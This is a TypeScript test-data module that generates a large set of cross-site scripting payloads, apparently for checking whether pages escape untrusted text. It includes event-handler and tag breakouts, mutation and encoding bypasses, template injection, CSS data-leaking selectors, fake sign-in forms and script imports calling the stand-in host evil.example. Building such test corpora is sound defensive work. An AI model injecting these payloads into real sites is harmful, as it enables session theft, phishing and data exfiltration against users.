import { each, injections } from './curated-injections.ts'

/**
 * Texts that run a script or fetch something if a page does not escape them. Each opens a dialog or calls another host.
 */
export function curatedScripts(): string[] {
  const own = Object.values(families).flatMap((family) => family())
  return [...new Set([...own, ...(injections['markup']?.() ?? [])])]
}

const away = '//evil.example/x'

const families: Record<string, () => string[]> = {
  elements: () =>
    each(
      ['', '">', "'>", '</title>', '</textarea>', '</style>', '-->', ']]>'],
      [
        '<script>alert(1)</script>',
        `<script src=${away}></script>`,
        `<img src=${away} onerror=alert(1)>`,
        '<svg><script>alert(1)</script></svg>',
        '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
        `<object data="${away}"></object>`,
      ],
    ),
  events: () =>
    [
      'body onload',
      'body onpageshow',
      'audio src=x onerror',
      'video src=x onerror',
      'video><source src=x onerror',
      'svg/onload',
      'svg><animate onbegin=alert(1) attributeName=x dur=1s x',
      'svg><set onbegin=alert(1) attributeName=x to',
      'marquee onstart',
      'details open ontoggle',
      'input autofocus onfocus',
      'select autofocus onfocus',
      'textarea autofocus onfocus',
      'button popovertarget=x>a</button><b popover id=x onbeforetoggle',
      'style onload',
      'link rel=stylesheet href=/x onerror',
      'img src=x oNeRrOr',
      'img/src=x/onerror',
      'img src=x onerror\u000a',
      'p style=animation-name:x onanimationstart',
      'x contenteditable autofocus onfocus',
      'a onmouseover',
      'b onpointerenter',
      'form><button formaction=javascript:alert(1)>go</button><b x',
      'dialog open onclose',
    ].map((head) => `<${head}=alert(1)>`),
  attributes: () =>
    each(
      ['"', "'", '`', '" ', "' ", ' ', '"\t', '&quot;'],
      [
        'onmouseover=alert(1) x=',
        'autofocus onfocus=alert(1) tabindex=1 x=',
        `style=background:url(${away}) x=`,
        'accesskey=x onclick=alert(1) x=',
      ],
    ),
  addresses: () =>
    each(
      [
        'javascript:',
        'JaVaScRiPt:',
        'java\tscript:',
        'java\nscript:',
        'javascript&colon;',
        '&#x6A;avascript:',
        ' javascript:',
        'vbscript:',
        'data:text/html,<script>',
        'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#',
        'view-source:javascript:',
        `${away}?`,
      ],
      ['alert(1)', '//%0aalert(1)'],
    ),
  drawings: () => [
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    `<svg><image href="${away}"/></svg>`,
    `<svg><use href="${away}#x"/></svg>`,
    '<svg><a href="javascript:alert(1)"><text y="20">click</text></a></svg>',
    '<svg><foreignObject><body onload=alert(1)></foreignObject></svg>',
    '<svg><script href="data:,alert(1)"/></svg>',
    `<svg><style>@import "${away}";</style></svg>`,
    '<svg><animate attributeName=href values=javascript:alert(1) /><a id=x>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math href="javascript:alert(1)">click</math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
    `<math><mglyph><svg><mtext><img src=${away}></mtext></svg></mglyph></math>`,
  ],
  mutations: () => [
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<template><script>alert(1)</script></template>',
    '<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    '<plaintext><script>alert(1)</script>',
    '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
    '<title><a title="</title><img src=x onerror=alert(1)>">',
    '<select><style></select><img src=x onerror=alert(1)></style>',
    '<b/<script>alert(1)//</script>',
    '<<script>alert(1)//<</script>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src="x`<img src=x onerror=alert(1)>">',
    '<a href="`"><img src=x onerror=alert(1)>`">',
  ],
  encodings: () => [
    ...each(
      ['&lt;', '&#60;', '&#x3c;', '&#0000060', '%3C', '%253C', '\\u003c', '\\x3c', '+ADw-', '＜'],
      ['script>alert(1)</script>', 'img src=x onerror=alert(1)>'],
    ),
    '<script>\\u0061lert(1)</script>',
    '<script>eval(atob("YWxlcnQoMSk="))</script>',
    '<script>[]["filter"]["constructor"]("alert(1)")()</script>',
    '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>',
    '<ımg src=x onerror=alert(1)>',
    '<\u017fcript>alert(1)</\u017fcript>',
    '<script>/\u2028/;alert(1)</script>',
  ],
  // A page's state and its data for search engines are JSON in a script element.
  json: () =>
    each(
      ['</script>', '</ScRiPt >', '</script\n>', '"}</script>', '"}]}</script>', '<!--<script>'],
      ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '-->', '\u2028alert(1)\u2029'],
    ),
  scripts: () =>
    each(
      ['";', "';", '`;', '\\";', "\\';", '*/', '\n'],
      ['alert(1)//', `fetch("${away}")//`, 'import("//evil.example/x.js")//'],
    ),
  templates: () => [
    ...each(
      ['{{', '${', '#{', '<%= ', '{{{'],
      ['constructor.constructor("alert(1)")()', '$on.constructor("alert(1)")()', 'alert(1)'],
    ).map((opened) => `${opened}}}`),
    '<x v-html="alert(1)" v-on:click="alert(1)">',
    '<div ng-app ng-csp>{{$new.constructor("alert(1)")()}}</div>',
    '<x data-bind="html: alert(1)" x-data x-init="alert(1)" hx-on:load="alert(1)">',
    '{"__html":"<img src=x onerror=alert(1)>"}',
    '{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=alert(1)>"}}',
    '[object Object]{"$$typeof":"Symbol(react.element)","type":"script"}',
  ],
  styles: () => [
    `<style>@import "${away}";</style>`,
    `<style>*{background:url(${away})}</style>`,
    `<link rel=stylesheet href=${away}>`,
    `<link rel=prefetch href=${away}>`,
    `<link rel=preconnect href=https:${away}>`,
    `<b style="background:url(${away})">x</b>`,
    '<b style="width:expression(alert(1))">x</b>',
    `<style>@font-face{font-family:x;src:url(${away})}*{font-family:x}</style>`,
    `<style>input[value^=a]{background:url(${away}?a)}</style>`,
    `}*{background:url(${away})}`,
  ],
  pages: () => [
    `<base href="https:${away}/">`,
    `<meta http-equiv=refresh content="0;url=https:${away}">`,
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    `<form action="https:${away}"><input name=a><button>Sign in</button></form>`,
    `<embed src=${away}>`,
    `<portal src=${away}></portal>`,
    `<a href=https:${away} ping=${away}>x</a>`,
    '<a id=config href=x></a><a id=config name=url href=javascript:alert(1)></a>',
    '<img name=getElementById><form id=location><input name=href>',
    `<video poster=${away}></video>`,
    `<input type=image src=${away}>`,
    `<picture><source srcset=${away}><img></picture>`,
    '<script type=module>alert(1)</script>',
    '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.example"]}]}</script>',
    '<script type=importmap>{"imports":{"x":"//evil.example/x.js"}}</script>',
  ],
  polyglots: () => [
    'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=alert(1) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>\\x3e',
    '\'">><marquee><img src=x onerror=alert(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=alert(1)>',
    '"/><svg/onload=alert(1)>{{7*7}}${alert(1)}<%=1%></script><script>alert(1)</script>',
    '-->\'"/></sCript><svG x=">" onload=(co\\u006efirm)``>',
    '"><script>/**/alert(1)//</script><!-- ]]> --><img src=x onerror=alert(1) x="\'`',
    '=HYPERLINK("https://evil.example","x")<script>alert(1)</script>',
  ],
}
